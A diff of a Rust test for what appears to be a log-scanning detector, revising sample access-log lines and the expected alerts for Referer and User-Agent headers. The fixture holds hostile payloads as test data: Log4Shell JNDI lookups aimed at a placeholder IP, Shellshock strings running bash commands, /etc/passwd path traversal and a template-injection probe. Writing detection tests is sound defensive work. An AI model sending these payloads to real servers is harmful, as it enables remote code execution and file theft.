@@ -163,16 +163,16 @@ fn json_lines_say_what_a_look_alike_imitates() {
     assert!(rows[1].get("imitates").is_none(), "{}", rows[1]);
 }
 
-/// The combined format's Referer is analysed as a URL and its
-/// User-Agent as text a server logs or hands to a CGI program; each
-/// flagged header is its own record after the request's, counted apart
-/// from the URLs.
+/// The combined format's Referer and User-Agent are read as text a
+/// server logs, renders or hands to a CGI program (what a Referer's URL
+/// would do to a visitor is not read); each flagged header is its own
+/// record after the request's, counted apart from the URLs.
 #[test]
 fn access_logs_referer_and_user_agent() {
     let d = dir("headers");
-    let log = b"203.0.113.9 - - [10/Oct/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 12 \"https://evil.example/%2e%2e/etc/passwd\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
+    let log = b"203.0.113.9 - - [10/Oct/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 12 \"https://www.example.com/?q=${jndi:dns://198.51.100.7/a}\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
 203.0.113.9 - - [10/Oct/2026:13:55:37 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 12 \"() { :;}; echo; /usr/bin/id\" \"() { :; }; /bin/bash -c id\"\n\
-203.0.113.9 - - [10/Oct/2026:13:55:38 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"https://www.example.com/\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n\
+203.0.113.9 - - [10/Oct/2026:13:55:38 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"https://www.example.com/%2e%2e/etc/passwd\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n\
 203.0.113.9 - - [10/Oct/2026:13:55:39 +0000] \"GET /%2e%2e/etc/passwd HTTP/1.1\" 404 - \"-\" \"Mozilla/5.0 {{7*7}}\"\n";
     let f = write(&d.join("access.log"), log);
     let out = scan().args(["scan", &f]).output().expect("run");
@@ -181,7 +181,7 @@ fn access_logs_referer_and_user_agent() {
     assert_eq!(
         stdout,
         format!(
-            "{f}:1: high path-traversal,sensitive-file: Referer: https://evil.example/%2e%2e/etc/passwd\n\
+            "{f}:1: high jndi-lookup: Referer: https://www.example.com/?q=${{jndi:dns://198.51.100.7/a}}\n\
              {f}:1: high jndi-lookup: User-Agent: ${{jndi:ldap://198.51.100.7:1389/a}}\n\
              {f}:2: high shellshock: Referer: () {{ :;}}; echo; /usr/bin/id\n\
              {f}:2: high shellshock: User-Agent: () {{ :; }}; /bin/bash -c id\n\
@@ -192,9 +192,7 @@ fn access_logs_referer_and_user_agent() {
     let stderr = String::from_utf8(out.stderr).expect("utf-8");
     assert!(stderr.contains("4 URLs analysed, 1 flagged"), "{stderr}");
     assert!(
-        stderr.contains(
-            "7 Referer and User-Agent headers read beside the request targets, 5 flagged"
-        ),
+        stderr.contains("5 Referer and User-Agent headers flagged beside the request targets"),
         "{stderr}"
     );
     // JSON names the header; the spans point into its value.
